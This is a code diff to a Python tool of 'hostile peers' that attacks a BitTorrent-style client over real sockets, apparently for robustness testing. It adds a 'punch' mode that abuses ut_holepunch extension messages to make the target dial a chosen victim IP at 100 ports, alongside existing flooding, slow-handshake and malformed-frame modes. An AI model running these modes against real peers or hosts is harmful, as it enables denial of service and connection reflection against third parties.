@@ -1,13 +1,14 @@
 #!/usr/bin/python3
 """Peers that mean harm, over real sockets.
 
-    hostile_peer.py MODE --target IP:PORT --bind IP [--torrent FILE] [--count N] [--seconds S]
+    hostile_peer.py MODE --target IP:PORT --bind IP [--torrent FILE] [--count N] [--seconds S] [--victim IP]
 
 Modes: silent        opens N connections and says nothing
        trickle       opens N connections and sends the handshake one byte a second
        garbage       N connections of random bytes, one after the other
        garbage-after N connections with a good handshake, then random bytes
        giant         N connections with a good handshake, then frames that claim up to 4 GiB
+       punch         N connections that say with 100 hole punching messages each: dial the victim, at these ports
        flood         N connections that ask for the same block as fast as they can and never read
 Prints JSON lines: "ready" (open connections), "round", "done" (connections made, closed by the other side, bytes sent).
 """
@@ -80,6 +81,14 @@ class Attack:
         for _ in range(200):
             yield bytes(65536)
 
+    async def punch(self):
+        greeting = bytearray(self.greeting())
+        greeting[25] |= 0x10  # extension protocol
+        yield bytes(greeting) + message(20, b'\x00d1:md12:ut_holepunchi1eee')
+        await asyncio.sleep(0.2)
+        victim = bytes(int(part) for part in self.args.victim.split('.'))
+        yield b''.join(message(20, b'\x04\x01\x00' + victim + struct.pack('>HI', 2000 + port, 0)) for port in range(100))
+
     async def flood(self):
         yield self.greeting() + message(INTERESTED)
         burst = message(REQUEST, struct.pack('>III', 0, 0, 16384)) * 4000
@@ -117,7 +126,7 @@ class Attack:
     async def run(self):
         mode = self.args.mode
         source = {'silent': self.nothing, 'trickle': self.trickle, 'garbage': self.garbage, 'garbage-after': self.garbage_after,
-                  'giant': self.giant, 'flood': self.flood}[mode]
+                  'giant': self.giant, 'flood': self.flood, 'punch': self.punch}[mode]
         await (self.crowd if mode in ('silent', 'trickle', 'flood') else self.parade)(source)
         say('done', made=self.made, closed=self.closed, sent=self.sent)
         return 0
@@ -125,10 +134,11 @@ class Attack:
 
 def main():
     parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
-    parser.add_argument('mode', choices=('silent', 'trickle', 'garbage', 'garbage-after', 'giant', 'flood'))
+    parser.add_argument('mode', choices=('silent', 'trickle', 'garbage', 'garbage-after', 'giant', 'flood', 'punch'))
     parser.add_argument('--target', required=True)
     parser.add_argument('--bind', required=True)
     parser.add_argument('--torrent')
+    parser.add_argument('--victim', help='for punch')
     parser.add_argument('--count', type=int, default=100)
     parser.add_argument('--seconds', type=float, default=30)
     parser.add_argument('--seed', type=int, default=1)
